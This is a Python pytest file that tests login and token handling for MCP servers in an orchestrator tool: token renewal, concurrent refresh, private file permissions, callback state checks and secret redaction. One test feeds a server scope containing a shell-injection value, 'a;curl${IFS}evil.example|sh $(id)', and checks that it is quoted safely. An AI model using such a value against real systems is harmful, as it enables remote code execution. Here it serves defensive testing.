"""Logins at servers: a person makes one, processes keep it valid, and no text has its tokens."""

import os
import shlex
import subprocess
import sys
from collections.abc import AsyncIterator, Iterable
from pathlib import Path
from typing import Any

import httpx2
import pytest
import trio

from orchestrator import Machine
from orchestrator.agents import McpUrl, ToolCall
from orchestrator.agents.redaction.redactor import Redactor
from orchestrator.kernel.errors import LoginError
from orchestrator.products.mcp.client.login.authorization import revoke
from orchestrator.products.mcp.client.login.callback import open_callback
from orchestrator.products.mcp.client.login.file import (
    Login,
    address_of,
    changed_logins,
    logins_file,
    read_logins,
)
from orchestrator.products.mcp.client.login.person import LoginRequest, log_in
from orchestrator.products.mcp.client.login.stored_login import StoredLogin
from tests.mcp.authorization_server import SCOPE, LoginServer, login_server
from tests.mcp.kit import Caller, use

pytestmark = pytest.mark.realtime

WHOAMI = ToolCall("tracker__whoami", {})


@pytest.fixture
async def server() -> AsyncIterator[LoginServer]:
    async with login_server() as it:
        yield it


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    return {"ORCHESTRATOR_HOME": str(tmp_path / "home"), "PATH": os.environ["PATH"]}


@pytest.fixture
def file(environ: dict[str, str]) -> Path:
    return logins_file(environ)


async def agree(link: str) -> None:
    """Be the person who agrees: open the page, and go where the browser is sent."""
    async with httpx2.AsyncClient(follow_redirects=True, trust_env=False) as browser:
        (await browser.get(link)).raise_for_status()


async def make_login(server: LoginServer, file: Path, **options: Any) -> Login:
    request = LoginRequest(url=server.mcp, **options)
    made = await log_in(request, file, show_link=agree)
    assert made is not None
    return made


async def call(server: LoginServer, environ: dict[str, str]) -> Caller:
    """Have an agent call the server's tool."""
    return await use(
        McpUrl("tracker", server.mcp), calls=[WHOAMI], machine=Machine(environ=environ)
    )


class Client:
    """Sends requests as a connection does, and notes which secrets it was told."""

    def __init__(self, server: LoginServer, file: Path) -> None:
        self.secrets: set[str] = set()
        self._server = server
        self.login = StoredLogin("tracker", server.mcp, file, note_secrets=self._note)

    def _note(self, secrets: Iterable[str]) -> None:
        self.secrets |= set(secrets)

    async def post(self, url: str = "") -> httpx2.Response:
        message = {"jsonrpc": "2.0", "id": 1, "method": "tools/call"}
        async with httpx2.AsyncClient(auth=self.login, trust_env=False) as client:
            return await client.post(url or self._server.mcp, json=message)


async def test_an_agent_explains_the_login_and_gets_the_tools_after_it(
    server: LoginServer, environ: dict[str, str], file: Path
) -> None:
    before = await use(McpUrl("tracker", server.mcp), machine=Machine(environ=environ))
    assert "`orchestrator mcp login tracker`" in before.requests[0].instructions

    await make_login(server, file)
    after = await call(server, environ)

    assert [it.text for it in after.answers] == ["you are ***"]
    assert server.log == ["register", f"authorize {SCOPE}", "authorization_code"]


async def test_a_server_without_login_gets_no_login(server: LoginServer, file: Path) -> None:
    server.wants_login = False

    assert await log_in(LoginRequest(url=server.mcp), file, show_link=agree) is None
    assert not read_logins(file)


async def test_a_token_that_has_ended_is_renewed_without_a_person(
    server: LoginServer, file: Path
) -> None:
    """By a process that starts later: where tokens are renewed was stored with them."""
    server.lifetime = 1
    made = await make_login(server, file)
    server.expire()
    server.lifetime = 3600

    response = await Client(server, file).post()

    assert response.status_code == 200
    assert server.log[-1] == "refresh_token"
    assert read_logins(file)[made.url].token not in {None, made.token}


async def test_many_calls_at_once_renew_a_token_once(server: LoginServer, file: Path) -> None:
    await make_login(server, file)
    server.expire()
    client = Client(server, file)
    answers: list[int] = []

    async def post() -> None:
        answers.append((await client.post()).status_code)

    async with trio.open_nursery() as nursery:
        for _ in range(20):
            nursery.start_soon(post)

    assert answers == [200] * 20
    assert server.log.count("refresh_token") == 1


async def test_one_of_several_processes_renews_the_token_for_all(
    server: LoginServer, file: Path
) -> None:
    """The server ends a login whose refresh token is used twice."""
    await make_login(server, file)
    server.expire()
    code = """
import sys, trio
from pathlib import Path
from types import SimpleNamespace
from tests.mcp.test_login import Client

async def main():
    response = await Client(SimpleNamespace(mcp=sys.argv[1]), Path(sys.argv[2])).post()
    print(response.status_code)

print("ready", flush=True)
input()
trio.run(main)
"""
    command = [sys.executable, "-c", code, server.mcp, str(file)]
    said = await trio.to_thread.run_sync(_both, command)

    assert said == ["200", "200"]
    assert server.log.count("refresh_token") == 1
    assert "reuse" not in server.log


def _both(command: list[str]) -> list[str]:
    """Run a command twice at the same time, and return what both print when both are ready."""
    started = [
        subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    for process in started:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
    for process in started:
        assert process.stdin is not None
        process.stdin.write("\n")
        process.stdin.flush()
    return [process.communicate()[0].strip() for process in started]


async def test_an_authorization_server_that_is_away_costs_no_login(
    server: LoginServer, file: Path
) -> None:
    made = await make_login(server, file)
    server.expire()
    server.has_token_endpoint = False
    client = Client(server, file)

    with pytest.raises(LoginError, match="cannot renew the login now"):
        await client.post()
    assert read_logins(file)[made.url] == made

    server.has_token_endpoint = True
    assert (await client.post()).status_code == 200


async def test_an_expired_login_is_reported_and_its_tokens_are_forgotten(
    server: LoginServer, file: Path
) -> None:
    made = await make_login(server, file)
    server.expire()
    server.refresh_tokens.clear()
    client = Client(server, file)

    for _ in range(2):
        with pytest.raises(LoginError, match="over: `orchestrator mcp login tracker`"):
            await client.post()
    assert read_logins(file)[made.url].tokens is None
    assert server.log.count("refresh_token") == 1

    # Who we are is remembered: no second registration.
    await make_login(server, file)
    assert (await client.post()).status_code == 200
    assert server.log.count("register") == 1


async def test_a_scope_of_a_server_cannot_inject_a_shell_command(
    server: LoginServer, file: Path
) -> None:
    await make_login(server, file)
    server.wanted_scope = "a;curl${IFS}evil.example|sh $(id)"
    with pytest.raises(LoginError) as refused:
        await Client(server, file).post()
    _, line, _ = str(refused.value).split("`")
    assert shlex.split(line)[4:] == [
        *("--scope", "a;curl${IFS}evil.example|sh", "--scope", "$(id)")
    ]
    punctuated = shlex.shlex(line, posix=True, punctuation_chars=True)
    assert not {";", "|", "("} & set(punctuated)


async def test_a_call_that_needs_more_names_the_scope_and_the_next_login_has_both(
    server: LoginServer, environ: dict[str, str], file: Path
) -> None:
    await make_login(server, file)
    server.wanted_scope = "issues:write"
    refused = await call(server, environ)
    assert "`orchestrator mcp login tracker --scope issues:write`" in refused.answers[0].text

    await make_login(server, file, scope="issues:write")
    allowed = await call(server, environ)

    assert allowed.answers[0].text == "you are ***"
    assert server.log[-2] == f"authorize {SCOPE} issues:write"


async def test_the_token_is_sent_to_its_server_only(server: LoginServer, file: Path) -> None:
    await make_login(server, file)
    async with login_server() as other:
        other.wants_login = False
        response = await Client(server, file).post(other.mcp)

    assert response.json()["result"]["content"][0]["text"] == "you are "


async def test_a_logout_while_a_token_is_renewed_is_the_last_word(
    server: LoginServer, file: Path
) -> None:
    made = await make_login(server, file)
    client = Client(server, file)
    await client.post()
    with changed_logins(file) as logins:
        logins.clear()
    server.expire()

    with pytest.raises(LoginError, match="wants a login"):
        await client.post()
    assert await revoke(made)
    assert server.log[-1] == "revoke"


async def test_a_refused_login_keeps_the_stored_one(server: LoginServer, file: Path) -> None:
    made = await make_login(server, file)
    server.refuses = True

    with pytest.raises(LoginError, match=r"refused the login: access_denied \(not"):
        await log_in(LoginRequest(url=server.mcp), file, show_link=agree)
    assert read_logins(file)[made.url] == made


async def test_a_page_of_others_can_neither_bring_a_code_nor_end_the_wait() -> None:
    async with open_callback() as callback, httpx2.AsyncClient() as browser:
        callback.expect("https://login.example.org/authorize?state=right")
        for query in ("code=evil&state=wrong", "code=evil", "error=x&state="):
            answer = await browser.get(f"{callback.url}?{query}")
            assert answer.status_code == 404
        thanks = await browser.get(f"{callback.url}?code=good&state=right")
        again = await browser.get(f"{callback.url}?code=late&state=right")
        found = await callback.wait()

    assert (thanks.status_code, again.status_code, found.code) == (200, 200, "good")


async def test_the_port_of_a_registration_is_reused_or_registered_again(
    server: LoginServer, file: Path
) -> None:
    made = await make_login(server, file)
    await make_login(server, file)
    assert server.log.count("register") == 1

    assert made.client is not None
    port = httpx2.URL(made.client["redirect_uris"][0]).port
    assert port is not None
    async with open_callback(port):
        await make_login(server, file)
        assert server.log.count("register") == 2
        with pytest.raises(LoginError, match="--port"):
            await make_login(server, file, port=port)


async def test_a_client_that_is_known_already_is_not_registered(
    server: LoginServer, file: Path
) -> None:
    async with open_callback() as free:
        port = free.port
    redirect = f"http://127.0.0.1:{port}/callback"
    server.clients["mine"] = {"redirect_uris": [redirect]}

    await make_login(server, file, client_id="mine", port=port)

    assert "register" not in server.log


async def test_secrets_are_registered_before_they_are_sent(server: LoginServer, file: Path) -> None:
    made = await make_login(server, file)
    client = Client(server, file)

    await client.post()

    assert client.secrets == set(made.secrets)
    assert not any(secret in repr(made) for secret in made.secrets)


def test_the_file_is_private_and_refused_if_others_can_read(file: Path) -> None:
    with changed_logins(file) as logins:
        logins["https://a.example/mcp"] = Login(url="https://a.example/mcp")
    assert oct(file.stat().st_mode)[-3:] == "600"
    assert oct(file.parent.stat().st_mode)[-3:] == "700"

    file.chmod(0o644)
    with pytest.raises(LoginError, match="chmod 600"):
        read_logins(file)


@pytest.mark.parametrize(
    "text", [b"", b"{", b'{"version":1,"logins":[{"tokens":"at-secret"}]}', b"\xff"]
)
def test_a_damaged_file_is_a_sentence_without_its_secrets(file: Path, text: bytes) -> None:
    with changed_logins(file):
        pass
    file.write_bytes(text)

    with pytest.raises(LoginError, match="log in again") as caught:
        read_logins(file)
    assert "at-secret" not in str(caught.value)


@pytest.mark.parametrize(
    ("url", "same"),
    [
        ("https://A.example:443/mcp/", "https://a.example/mcp"),
        ("http://a.example:80", "http://a.example"),
        ("https://a.example:8443/mcp#x", "https://a.example:8443/mcp"),
        ("https://a.example/mcp?team=1", "https://a.example/mcp?team=1"),
        ("http://[::1]:9/mcp", "http://[::1]:9/mcp"),
    ],
)
def test_an_address_has_one_form(url: str, same: str) -> None:
    assert address_of(url) == same


def test_a_redactor_forgets_the_replaced_secrets_of_a_source() -> None:
    redactor = Redactor(["given-secret"])
    redactor.learn(["at-first-1234"], source="login")
    redactor.learn(["other-secret"])
    redactor.learn(["at-second-5678"], source="login")

    text = "given-secret at-first-1234 other-secret at-second-5678"
    assert redactor.redact(text) == "*** at-first-1234 *** ***"
